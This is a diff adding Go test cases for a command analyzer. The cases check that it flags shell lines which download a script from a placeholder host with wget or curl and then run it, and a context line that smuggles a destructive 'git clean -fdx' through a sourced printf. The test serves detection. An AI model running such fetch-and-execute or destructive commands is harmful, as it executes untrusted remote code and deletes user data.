@@ -172,3 +172,12 @@ func TestAnalyzeSourceInPlace(t *testing.T) {
 		{`. <(printf 'c="git clean -fdx"\n'); $c`, "!git_destructive"},
 	})
 }
+
+func TestAnalyzeDownloadNames(t *testing.T) {
+	runCases(t, env, []analyzeCase{
+		{`wget https://x.example/get/install.sh && bash install.sh`, "!fetch_to_shell r:install.sh h:x.example"},
+		{`curl -fsSLO https://x.example/i.sh?v=1; sh ./i.sh`, "!fetch_to_shell r:./i.sh h:x.example"},
+		{`wget https://x.example/ && cat index.html`, "r:index.html h:x.example"},
+		{`wget -O - https://x.example/i.sh > /dev/null; bash i.sh`, "r:i.sh h:x.example"},
+	})
+}
